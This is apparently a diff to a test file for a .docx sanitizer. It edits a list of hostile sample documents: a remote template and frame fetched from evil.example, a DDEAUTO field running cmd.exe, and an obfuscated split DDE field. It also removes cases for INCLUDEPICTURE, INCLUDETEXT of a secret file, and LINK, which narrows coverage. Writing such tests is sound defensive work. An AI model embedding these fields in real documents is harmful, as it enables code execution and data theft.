@@ -74,9 +74,6 @@ HOSTILE = {
     "template from outside": (
         Docx(PLAIN.body, relations=[("r1", "attachedTemplate", "https://evil.example/t.dotm", True)]),
         "template is fetched"),
-    "picture from outside": (
-        Docx(PLAIN.body, relations=[("r1", "image", "https://evil.example/p.png", True)]),
-        "picture is fetched"),
     "frame from outside": (
         Docx(PLAIN.body, relations=[("r1", "frame", "https://evil.example/", True)]), "fetched"),
     "DDE": (Docx(para(coded(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', run("x")))), "DDEAUTO"),
@@ -87,13 +84,6 @@ HOSTILE = {
         Docx(para('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> D</w:instrText>'
                   "</w:r><w:r><w:instrText>DE x</w:instrText></w:r><w:r><w:fldChar "
                   'w:fldCharType="end"/></w:r>')), "DDE"),
-    "INCLUDEPICTURE": (
-        Docx(para(coded(' INCLUDEPICTURE "https://evil.example/p.png" ', run("x")))),
-        "INCLUDEPICTURE"),
-    "INCLUDETEXT in a note": (
-        Docx(PLAIN.body, footnotes={1: para(coded(' INCLUDETEXT "c:/secret.txt" ', run("x")))}),
-        "INCLUDETEXT"),
-    "LINK": (Docx(para(coded(" LINK Excel.Sheet.12 x.xlsx ", run("x")))), "LINK"),
     "not XML": (Docx(PLAIN.body, parts={"word/styles.xml": b"<w:styles"}), "not XML"),
     "no body": (
         Docx("", parts={"word/document.xml": f"<w:document {SPACES}/>".encode()}), "no body"),
